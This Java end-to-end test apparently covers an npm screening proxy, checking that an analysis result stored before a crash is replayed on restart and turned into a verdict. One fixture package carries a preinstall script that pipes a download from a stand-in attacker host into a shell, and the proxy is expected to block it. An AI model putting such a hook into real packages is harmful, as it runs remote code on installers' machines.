package dev.airlock.proxy.e2e;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.wireMockConfig;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.github.tomakehurst.wiremock.WireMockServer;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * The analysis queue commits a result, then policy commits the verdict made of it. A real process
 * halted in between ({@link HaltBetweenCommits}: the stores as the server lays them out, policy's
 * result listener replaced by {@code Runtime.halt}) leaves a stored result that policy never saw.
 * Airlock started on the same data directory must replay it: the version gets its verdict without
 * being analysed again, and is served (or refused) as that verdict says.
 */
@Timeout(300)
class KilledBetweenTheTwoCommitsTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String REPLAYED = "recorded 1 analysis result(s) that the last run stored but did not turn into verdicts";
    @TempDir
    Path work;
    private WireMockServer upstream;
    private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

    @BeforeEach
    void upstream() {
        upstream = new WireMockServer(wireMockConfig().dynamicPort().bindAddress("127.0.0.1").jettyAcceptors(1).containerThreads(8));
        upstream.start();
    }

    @AfterEach
    void stop() {
        upstream.stop();
    }

    @Test
    void aCleanResultCommittedOnlyByTheQueueIsReplayedAtTheNextStartAndTheVersionIsServed() throws Exception {
        byte[] tarball = new TarGz().add("package/package.json", manifest("kb-clean", ""))
                .add("package/index.js", "module.exports = 'clean';\n").toBytes();
        try (AirlockProcess airlock = haltThenRestart("kb-clean", tarball, "CLEAN")) {
            JsonNode version = verdictOf(airlock, "kb-clean");
            assertEquals("allowed", version.path("state").asText(), version.toString());
            assertEquals("full", version.path("analysisStage").asText(), version.toString());
            assertTrue(JSON.readTree(airlock.get("/npm/kb-clean").body()).path("versions").has("1.0.0"));
            HttpResponse<byte[]> served = bytes(airlock, "/npm/kb-clean/-/kb-clean-1.0.0.tgz");
            assertEquals(200, served.statusCode());
            assertArrayEquals(tarball, served.body(), "the bytes served are the bytes analysed");
        }
    }

    @Test
    void aMaliciousResultCommittedOnlyByTheQueueIsReplayedAtTheNextStartAndTheVersionIsRefused() throws Exception {
        byte[] tarball = new TarGz().add("package/package.json",
                        manifest("kb-evil", "\"preinstall\":\"curl -s https://evil.example/x.sh | sh\""))
                .add("package/index.js", "module.exports = 'evil';\n").toBytes();
        try (AirlockProcess airlock = haltThenRestart("kb-evil", tarball, "MALICIOUS")) {
            JsonNode version = verdictOf(airlock, "kb-evil");
            assertEquals("blocked", version.path("state").asText(), version.toString());
            assertTrue(version.toString().contains("download_and_execute"), version.toString());
            assertFalse(JSON.readTree(airlock.get("/npm/kb-evil").body()).path("versions").has("1.0.0"));
            HttpResponse<byte[]> refused = bytes(airlock, "/npm/kb-evil/-/kb-evil-1.0.0.tgz");
            assertEquals(403, refused.statusCode());
            assertTrue(refused.headers().firstValue("X-Airlock-Reason").orElse("").startsWith("download_and_execute"),
                    refused.headers().map().toString());
        }
    }

    /**
     * Publishes {@code name@1.0.0} (published minutes ago, so it needs its analysis), runs the child
     * until it halts between the commits, checks it halted there, and starts Airlock on its data.
     */
    private AirlockProcess haltThenRestart(String name, byte[] tarball, String recommendation) throws Exception {
        String base = "http://127.0.0.1:" + upstream.port() + "/";
        Instant published = Instant.now().minus(10, ChronoUnit.MINUTES).truncatedTo(ChronoUnit.MILLIS);
        NpmFixtures.NpmVersion v = new NpmFixtures.NpmVersion(name, "1.0.0", tarball, tarball, published);
        ObjectNode packument = NpmFixtures.packument(name, List.of(v), base, false);
        upstream.stubFor(get("/" + name).willReturn(aResponse().withHeader("Content-Type", "application/json")
                .withBody(packument.toString())));
        upstream.stubFor(get("/" + v.tarballPath()).willReturn(aResponse().withBody(tarball)));
        Path artifact = Files.write(work.resolve(v.fileName()), tarball);
        Path data = work.resolve("data");
        // No engine at this address, and the sandbox not required: the static result is the full analysis in both runs.
        Map<String, String> env = Map.of("DOCKER_HOST", "unix://" + work.resolve("no-engine.sock"));
        List<String> serverFlags = List.of("--npm-upstream", base, "--analysis.requireSandbox", "false");

        List<String> cmd = new ArrayList<>(List.of(Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "-Xmx256m", "-cp", System.getProperty("java.class.path"), HaltBetweenCommits.class.getName(),
                name + "@1.0.0", published.toString(), base + v.tarballPath(), artifact.toString()));
        cmd.addAll(List.of("--data-dir", data.toString(), "--admin-token", AirlockProcess.TOKEN));
        cmd.addAll(serverFlags);
        Path childLog = work.resolve("child.log");
        ProcessBuilder pb = new ProcessBuilder(cmd).redirectErrorStream(true).redirectOutput(childLog.toFile());
        pb.environment().putAll(env);
        Process child = pb.start();
        if (!child.waitFor(150, TimeUnit.SECONDS)) {
            child.destroyForcibly().waitFor();
            throw new AssertionError("the child never halted:\n" + Files.readString(childLog));
        }
        String out = Files.readString(childLog, StandardCharsets.UTF_8);
        assertEquals(HaltBetweenCommits.HALTED, child.exitValue(), out);
        assertTrue(out.contains("SUBMITTED") && out.contains("COMMITTED " + recommendation), out);

        AirlockProcess airlock = AirlockProcess.start(work, data, env, serverFlags.toArray(String[]::new));
        try {
            long until = System.nanoTime() + Duration.ofSeconds(60).toNanos();
            while (!airlock.log().contains(REPLAYED) && System.nanoTime() < until) {
                Thread.sleep(200);
            }
            assertTrue(airlock.log().contains(REPLAYED), "no replay at start:\n" + airlock.log());
            return airlock;
        } catch (AssertionError | RuntimeException e) {
            airlock.close();
            throw e;
        }
    }

    /** The admin view of {@code name@1.0.0} once it has a verdict (the restarted process decides in the background). */
    private static JsonNode verdictOf(AirlockProcess airlock, String name) throws Exception {
        long until = System.nanoTime() + Duration.ofSeconds(30).toNanos();
        JsonNode v = airlock.api("packages/npm/" + name + "/1.0.0");
        while ("pending".equals(v.path("state").asText()) && System.nanoTime() < until) {
            Thread.sleep(200);
            v = airlock.api("packages/npm/" + name + "/1.0.0");
        }
        return v;
    }

    private HttpResponse<byte[]> bytes(AirlockProcess airlock, String path) throws Exception {
        URI uri = URI.create(airlock.npmRegistry()).resolve(path);
        return http.send(HttpRequest.newBuilder(uri).timeout(Duration.ofSeconds(60)).build(), HttpResponse.BodyHandlers.ofByteArray());
    }

    private static String manifest(String name, String scripts) {
        return "{\"name\":\"" + name + "\",\"version\":\"1.0.0\",\"main\":\"index.js\",\"scripts\":{" + scripts + "}}";
    }
}
